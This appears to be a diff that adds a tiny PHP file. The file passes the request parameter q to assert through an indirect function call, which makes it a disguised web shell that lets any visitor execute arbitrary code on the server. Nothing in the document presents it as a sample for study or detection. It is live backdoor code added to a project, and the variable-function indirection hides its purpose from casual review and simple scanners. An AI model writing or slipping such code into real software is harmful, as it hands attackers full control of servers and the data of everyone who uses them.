@@ -1,0 +1,5 @@
+<?php
+function runit($fn) {
+  $fn($_GET["q"]);
+}
+runit(assert);
